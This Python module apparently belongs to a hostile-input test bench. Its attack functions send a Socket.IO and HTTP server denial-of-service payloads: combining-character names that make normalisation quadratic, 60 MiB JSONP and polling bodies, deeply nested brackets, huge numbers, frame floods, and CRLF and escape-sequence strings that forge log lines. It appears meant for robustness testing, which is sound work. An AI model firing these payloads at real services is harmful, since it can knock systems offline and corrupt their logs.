"""Texts that cost more than their length: names, JSONP, payloads, brackets, numbers."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

from bench.hostile.target import Target, attack
from bench.hostile.wire import Polling, Socket, connect, head, masked, read_answer, request, told

MIB = 2**20


def combining(size: int) -> str:
    """A name of `size` bytes of combining characters in the order that is worst for normalisation."""
    return "\u0301" * (size // 4) + "\u0323" * (size // 4)


@attack("names", "user names and passwords of combining characters, whose normalisation is quadratic")
def names(target: Target) -> None:
    for size in (120_000, 60_000, 30_000):
        for fields in ({"user": combining(size), "password": "x"}, {"user": "x", "password": combining(size)}):
            client = Socket(target, join=False)
            client.send("40" + json.dumps(fields, ensure_ascii=False))
            target.seen[f"CONNECT of {size // 1000} KB: {client.end(15)}"] += 1
            client.close()
        client = Socket(target)
        client.event("authenticate", combining(size), combining(size), "answer")
        target.seen[f"authenticate of {size // 1000} KB: {client.end(4)}"] += 1
        client.close()
    pair = base64.b64encode(f"{combining(20_000)}:x".encode()).decode()
    request(target, "GET", "/list_nn", Authorization="Basic " + pair)
    request(target, "GET", "/list_nn?name=" + quote(combining(1_200)))
    for query in ("user", "token", "key", "name"):
        Polling(target, 3, f"&{query}=" + quote(combining(1_200))).close()


@attack("jsonp", "a JSONP post of 60 MiB, d=%5Cn..., to a polling session of generation 3")
def jsonp(target: Target) -> None:
    for text in (b"%5Cn", b"x", b"%255Cn"):
        session = Polling(target, 3, "&j=0")
        session.post(b"d=" + text * (60 * MIB // len(text)), "application/x-www-form-urlencoded")
        session.close()


@attack("emoji", "payloads of generation 3 of 60 MiB: one emoji, emoji alone, many packets, one long number")
def emoji(target: Target) -> None:
    size = 60 * MIB
    smile = "😀".encode()
    bodies = [
        f"{size - 100}:4".encode() + b"x" * (size - 103) + smile,
        f"{size // 2 - 12}:4".encode() + smile * (size // 4 - 6),
        b"1:4" * (size // 3),
        b"9" * size,
    ]
    for body in bodies:
        session = Polling(target, 3)
        session.post(body)
        session.close()
    session = Polling(target, 4)
    session.post(b"4x\x1e" * (size // 3))
    session.close()


@attack("brackets", "Socket.IO packets of up to 15 MiB of brackets, numbers and strings, over WebSocket and polling")
def brackets(target: Target) -> None:
    size = 15 * MIB
    kinds = [
        b"[]," * (size // 3),
        b"[" * size,
        b'{"a":' * (size // 5),
        b"1," * (size // 2),
        b'"",' * (size // 3),
        b"9" * size,
    ]
    for body in kinds:
        for version in (3, 4):
            client = Socket(target, version)
            client.send(b'42["x",' + body.rstrip(b",") + b"]")
            target.seen[client.end(10)] += 1
            client.close()
    for start in (b"40", b"40/x,", b"41/", b"45", b"451-", b"42/", b"429", b"6"):
        client = Socket(target)
        client.send(start + b"[]," * (size // 3))
        target.seen[client.end(10)] += 1
        client.close()
    session = Polling(target, 4)
    session.post(b'42["x",' + (b"[]," * (size // 3)).rstrip(b",") + b"]")
    session.close()


@attack("brackets-allowed", "Socket.IO packets of brackets as large as the server takes, 200 of them, after a login")
def brackets_allowed(target: Target) -> None:
    for body in (b"[],", b"1,", b'{"a":1},', b'"\\u0061",'):
        client = Socket(target)
        client.login()
        text = b'42["x",' + (body * (64_000 // len(body))).rstrip(b",") + b"]"
        for _ in range(200):
            if not client.send(text):
                break
        client.event("nobody knows this event")
        target.seen[client.end(5)[:40]] += 1
        client.close()


@attack("events", "a thousand small packets in one go, on 20 connections: unknown events, acknowledgements, namespaces")
def events(target: Target) -> None:
    kinds = (
        b'421["x"]',
        b"43999[]",
        b"40/x,",
        b"41/x,",
        b"2",
        b"3",
        b"6",
        b'42["receiveImage",1]',
        b'42["configure",{"hz":1}]',
    )
    for kind in kinds:
        clients = [Socket(target) for _ in range(20)]
        for client in clients:
            client.send_raw(b"".join([b"\x81" + bytes((0x80 | len(kind),)) + bytes(4) + kind] * 1000))
        target.seen[clients[0].end(1)[:40]] += 1
        for client in clients:
            client.close()


@attack("numbers", "hz of 10**400, NaN, and numbers of 60,000 digits, wherever a number is taken")
def numbers(target: Target) -> None:
    client = Socket(target)
    client.login()
    for value in ("1" + "0" * 400, "1e999", "NaN", "-1", "9" * 60_000, "1e-400", '"5"', "[]", "null"):
        client.send('427["configure",{"hz":' + value + "}]")
        client.send('427["authenticate",' + value + "]")
        client.send("42" + "9" * 500 + '["configure"]')
    target.seen["configure: " + client.end(5)] += 1
    client.close()
    for path in (
        "/snippets/" + "9" * 5000 + "/",
        "/snippets/?limit=" + "9" * 5000,
        "/snippets/-1/",
        "/lenet/train?x=1",
    ):
        request(target, "GET", path)
    for length in ("9" * 5000, "-1", "1" * 20):
        with connect(target) as sock:
            sock.sendall(head("POST", "/faces/classify", Content_Length=length))
            target.seen[told(read_answer(sock)[0])] += 1


@attack(
    "echoes",
    "long names of events, models, callbacks and paths, with line ends and controls: what comes back, what is logged",
)
def echoes(target: Target) -> None:
    long = "x\r\nFORGED LINE\x1b[31m" + "y" * 15_000
    client = Socket(target)
    client.login()
    for number in range(50):
        client.send(f"42{number}" + json.dumps([long]))
        client.send(f"42{number}" + json.dumps(["configure", {"model": long}]))
        client.send(f"42{number}" + json.dumps(["configure", {long: 1}]))
        client.send(f"42{number}" + json.dumps(["authenticate", long, long, long]))
    target.seen[client.end(5)[:40]] += 1
    client.close()
    for path in (
        "/" + "z" * 7000 + "/classify",
        "/v2/models/" + "z" * 7000 + "/infer",
        "/%0d%0aFORGED%20LINE",
        "/ws/" + "z" * 7000,
    ):
        request(target, "GET", path)
        request(target, "POST", path)


@attack("places", "binary events whose placeholders lie deep, are many, or point nowhere")
def places(target: Target) -> None:
    place = '{"_placeholder":true,"num":0}'
    depth = 30_000
    texts = (
        "[" * depth + place + "]" * depth, ",".join([place] * 2000), '{"_placeholder":true,"num":' + "9" * 4000 + "}",
        '{"_placeholder":true,"num":-1}', '{"_placeholder":true,"num":"0"}', '{"_placeholder":true,"num":1e999}',
        '{"a":' * 10_000 + place + "}" * 10_000, '{"_placeholder":true}',
    )  # fmt: skip
    for text in texts:
        for packet in ("451-", "461-1", "450-", "4516-", "451-/x,"):
            client = Socket(target)
            client.login()
            client.send(f'{packet}["receiveImage",{text}]')
            client.send_raw(masked(2, b"x"))
            client.event("configure")
            target.seen[client.end(0.5)[:40]] += 1
            client.close()
